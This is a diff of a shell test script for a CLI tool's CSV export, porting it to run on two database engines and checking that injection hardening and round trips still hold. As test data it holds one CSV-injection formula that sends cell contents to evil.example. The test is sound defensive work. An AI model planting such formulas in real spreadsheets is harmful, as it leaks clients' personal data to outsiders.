@@ -12,16 +12,18 @@
 #     a cell that only starts with ' keeps it;
 #   - export files are created 0600 whatever the umask, also over an
 #     existing 0644 file (they hold every client's personal data).
+# On either engine (make check-pg): the databases come from t_db.
 . "${srcdir:-$(dirname "$0")/..}/tests/lib.sh"
 t_init csv_hostile
-t_require sqlite3
+[ "$(t_engine)" = sqlite ] && t_require sqlite3
 [ -x "$T_PYTHON" ] || t_skip "$T_PYTHON not found"
 
 CARTERA=${top_builddir:-.}/cartera
 export TZ=UTC
 : >"$T/empty.conf"
 c() { "$CARTERA" -c "$T/empty.conf" -q --now "2026-06-15 10:00Z" "$@"; }
-export CARTERA_DB=$T/a.db
+A=$(t_db a) B=$(t_db b)
+export CARTERA_DB=$A
 Q="'"
 HYPER='=HYPERLINK("http://evil.example/?leak="&B2&C2,"Click")'
 
@@ -62,25 +64,26 @@ PY
 
 c export "$T/rt.csv" || t_fail "export for the round trip"
 # Round trip: import the export into a new database, export again.
-export CARTERA_DB=$T/b.db
+export CARTERA_DB=$B
 c init || t_fatal "init b"
 c owner add ana@example.com --name "Ana" --tz UTC || t_fatal "owner b"
 c import "$T/rt.csv" >/dev/null || t_fail "the export imports"
 c export "$T/two.csv" || t_fail "export b"
 t_assert_eq "$(cat "$T/rt.csv")" "$(cat "$T/two.csv")" "export -> import -> export: the same file"
-q() { sqlite3 "$1" "SELECT c.name, ifnull(k.phone, ''), ifnull(c.notes, ''), ifnull(c.city, ''),
-	ifnull(c.sector, '') FROM clients c LEFT JOIN contacts k ON k.client_id = c.id AND k.is_primary
+q() { t_sql "$1" "SELECT c.name, coalesce(k.phone, ''), coalesce(c.notes, ''), coalesce(c.city, ''),
+	coalesce(c.sector, '') FROM clients c LEFT JOIN contacts k ON k.client_id = c.id AND k.is_primary = 1
 	ORDER BY c.name"; }
-t_assert_eq "$(q "$T/a.db")" "$(q "$T/b.db")" "and the same data, character for character"
-t_assert_eq "+34 911 222 333" "$(sqlite3 "$T/b.db" "SELECT phone FROM contacts WHERE phone LIKE '+34%'")" \
+t_assert_eq "$(q "$A")" "$(q "$B")" "and the same data, character for character"
+t_assert_eq "+34 911 222 333" "$(t_sql "$B" "SELECT phone FROM contacts WHERE phone LIKE '+34%'")" \
 	"the phone came back exactly"
-t_assert_eq "$HYPER" "$(sqlite3 "$T/b.db" "SELECT name FROM clients WHERE name LIKE '=HYPER%'")" \
+t_assert_eq "$HYPER" "$(t_sql "$B" "SELECT name FROM clients WHERE name LIKE '=HYPER%'")" \
 	"the formula name came back exactly (as data)"
-export CARTERA_DB=$T/a.db
+export CARTERA_DB=$A
 
 # The CLI and import trim leading white space; a tab or CR at the start
-# can only come from behind their back.
-sqlite3 "$T/a.db" "UPDATE clients SET name = char(9) || 'Tab Corp', notes = char(13) || 'retorno'
+# can only come from behind their back (written into the SQL as they are:
+# both engines take them inside a string).
+t_sql "$A" "UPDATE clients SET name = '$(printf '\t')Tab Corp', notes = '$(printf '\r')retorno'
 	WHERE name = 'Tab Corp'" || t_fatal "tampering"
 
 (umask 022 && c export "$T/one.csv") || t_fail "export"
